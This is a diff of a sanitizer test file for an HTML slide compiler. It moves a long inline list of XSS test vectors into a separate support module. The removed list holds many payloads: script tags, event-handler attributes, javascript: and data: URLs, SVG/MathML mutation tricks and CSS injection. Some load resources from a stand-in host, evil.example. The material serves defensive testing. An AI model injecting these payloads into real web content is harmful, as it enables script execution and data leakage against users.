@@ -9,84 +9,7 @@ import { sanitizeSlide } from '../../src/compiler/4-render/sanitize.ts'
 import { safeStyle } from '../../src/compiler/4-render/safe-style.ts'
 import type { Context } from '../../src/compiler/context.ts'
 import { compileText } from '../support/compile-text.ts'
-
-const vectors = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src=x OnErRoR="alert(1)">',
-  '<img/src=x/onerror=alert(1)>',
-  '<svg onload=alert(1)>',
-  '<svg/onload=alert(1)//',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>',
-  '<svg><set attributeName=href to=javascript:alert(1)></set></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<svg><a><animate attributeName=href values=javascript:alert(1)></animate></a></svg>',
-  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4="></use></svg>',
-  '<svg><use xlink:href="https://evil.example/a.svg#x"></use></svg>',
-  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
-  '<svg><style>@import "//evil.example"</style></svg>',
-  '<svg><rect fill="url(https://evil.example/x)"></rect></svg>',
-  '<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href=" javascript:alert(1)">x</a>',
-  '<a href="java&#10;script:alert(1)">x</a>',
-  '<a href="java&Tab;script:alert(1)">x</a>',
-  '<a href="&#1;javascript:alert(1)">x</a>',
-  '<a href="javascript&colon;alert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="blob:https://x/1" onclick=alert(1)>x</a>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src="https://evil.example"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<form action="javascript:alert(1)"><button formaction="javascript:alert(2)">x</button></form>',
-  '<button formaction=javascript:alert(1)>x</button>',
-  '<input autofocus onfocus=alert(1)>',
-  '<select onfocus=alert(1) autofocus><option>x</option></select>',
-  '<video><source onerror="alert(1)"></video>',
-  '<video poster="javascript:alert(1)"></video>',
-  '<audio src="javascript:alert(1)"></audio>',
-  '<img src="data:text/html,<script>alert(1)</script>">',
-  '<body onload=alert(1)>',
-  '<details open ontoggle=alert(1)><summary>x</summary></details>',
-  '<marquee onstart=alert(1)>x</marquee>',
-  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  '<base href="javascript:alert(1)//">',
-  '<link rel=stylesheet href="javascript:alert(1)">',
-  '<style>*{background:url(javascript:alert(1))}</style>',
-  '<div style="background:url(javascript:alert(1))">x</div>',
-  '<div style="background-image:url(https://evil.example/x.png)">x</div>',
-  '<div style="width:expression(alert(1))">x</div>',
-  '<div style="wi\\64th:expr\\65ssion(alert(1))">x</div>',
-  '<div style="behavior:url(x.htc)">x</div>',
-  '<div style="-moz-binding:url(x)">x</div>',
-  '<div style="position:fixed;inset:0">x</div>',
-  '<div style="po/**/sition:fixed">x</div>',
-  '<template><img src=x onerror=alert(1)></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
-  '<textarea><img src=x onerror=alert(1)></textarea>',
-  '<xmp><img src=x onerror=alert(1)></xmp>',
-  '<title><img src=x onerror=alert(1)></title>',
-  '<section data-background-iframe="https://evil.example">x</section>',
-  '<div id="lectern-manifest">{}</div>',
-  '<p id="lectern">x</p>',
-  '<a href="https://a.example" data-preview-link>x</a>',
-  '<a href="https://a.example" ping="https://evil.example">x</a>',
-  '<!--><script>alert(1)</script>-->',
-  '[x](javascript:alert(1))',
-  '[x]( "onclick=alert(1)")<img src=x onerror=alert(1) title=">',
-  '![x](javascript:alert(1))',
-  '[x]{onclick="alert(1)"}',
-  'text {style="position:fixed"}',
-  '\uFDD10\uFDD2<script>alert(1)</script>',
-]
+import { unsafeHtml } from '../support/unsafe-html.ts'
 
 const elements =
   /^(?:script|iframe|object|embed|form|base|meta|link|style|template|noscript|foreignobject|math|animate|set|section|textarea|title|xmp)$/i
@@ -114,7 +37,7 @@ function dangers(html: string): string[] {
 }
 
 describe('an author’s HTML', () => {
-  it.each(vectors)('%s', async (vector) => {
+  it.each(unsafeHtml)('%s', async (vector) => {
     const inline = await compileText(`## A\n\nText ${vector} after`)
     const block = await compileText(`## A\n\n${vector}\n\nAfter`)
     expect(dangers(inline.html)).toEqual([])
